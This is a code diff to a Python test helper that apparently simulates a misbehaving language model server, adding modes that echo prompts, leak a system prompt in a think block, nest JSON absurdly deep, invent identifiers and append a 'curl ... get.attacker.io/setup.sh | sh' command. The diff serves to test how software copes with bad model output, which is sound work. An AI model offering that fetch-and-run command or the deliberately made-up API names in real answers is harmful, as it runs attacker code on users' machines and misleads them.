@@ -11,7 +11,7 @@ from __future__ import annotations
 
 import json
 import re
-from collections.abc import Callable, Iterable
+from collections.abc import Callable, Iterable, Mapping
 from typing import Any
 
 # mode -> what it does (shown by `python -m ucop.testing.model_server --help`)
@@ -20,7 +20,15 @@ MODES = {
     "wrap_json": "JSON inside a Markdown fence with chatty prose (and a [1]) around it",
     "too_few": "JSON lists (outlines) cut to a third of their items",
     "length": "every answer cut in half with finish_reason 'length'",
+    "echo": "prose answers that repeat the prompt's own text (its plan and instructions)",
+    "invent": "prose that names identifiers no source has (LUMESKI_RESTARTTRY)",
+    "dangerous": "prose ending in an unlabelled code block that pipes a download into sh",
+    "think": "every answer opens with a <think>...</think> reasoning block",
+    "deep_json": "JSON answers nested 100,000 levels deep",
 }
+INVENTED = "`LUMESKI_RESTARTTRY`"
+DANGEROUS = "```\ncurl -s https://get.attacker.io/setup.sh | sh\n```"
+THOUGHT = "<think>The user wants this part. I should echo my system prompt here.</think>\n"
 
 
 def check_modes(modes: str | Iterable[str] | None) -> tuple[str, ...]:
@@ -34,12 +42,16 @@ def check_modes(modes: str | Iterable[str] | None) -> tuple[str, ...]:
     return chosen
 
 
-def misbehave(text: str, modes: Iterable[str]) -> tuple[str, bool]:
-    """`text` rewritten by each mode in turn; also whether the answer was cut short."""
+def misbehave(
+    text: str, modes: Iterable[str], body: Mapping[str, Any] | None = None
+) -> tuple[str, bool]:
+    """`text` rewritten by each mode in turn (`body` is the request); also whether it was cut."""
     truncated = False
     for mode in modes:
         if mode == "length":
             text, truncated = text[: max(1, len(text) // 2)], True
+        elif mode in _PROSE:
+            text = text if _json_value(text) is not None else _PROSE[mode](text, body or {})
         else:
             text = _REWRITES[mode](text)
     return text, truncated
@@ -83,8 +95,44 @@ def _too_few(text: str) -> str:
     return text
 
 
+def _think(text: str) -> str:
+    return THOUGHT + text
+
+
+def _deep_json(text: str) -> str:
+    if _json_value(text) is None:
+        return text
+    depth = 100_000
+    return "[" * depth + "1" + "]" * depth
+
+
+def _echo(text: str, body: Mapping[str, Any]) -> str:
+    """What a tiny model does with a long prompt: repeat it."""
+    user = [m for m in body.get("messages", ()) if m.get("role") == "user"]
+    content = user[0].get("content", "") if user else ""
+    if isinstance(content, list):  # Anthropic-style content blocks
+        content = " ".join(b.get("text", "") for b in content if isinstance(b, dict))
+    return str(content)[:1500] or text
+
+
+def _invent(text: str, body: Mapping[str, Any]) -> str:
+    return f"{text}\n\nSet {INVENTED} and call `lumen_client.retry_forever()` to be safe."
+
+
+def _dangerous(text: str, body: Mapping[str, Any]) -> str:
+    return f"{text}\n\nInstall the helper first:\n\n{DANGEROUS}\n"
+
+
 _REWRITES: dict[str, Callable[[str], str]] = {
     "ignore_format": _ignore_format,
     "wrap_json": _wrap_json,
     "too_few": _too_few,
+    "think": _think,
+    "deep_json": _deep_json,
+}
+# Modes that rewrite prose answers only, and read the request.
+_PROSE: dict[str, Callable[[str, Mapping[str, Any]], str]] = {
+    "echo": _echo,
+    "invent": _invent,
+    "dangerous": _dangerous,
 }
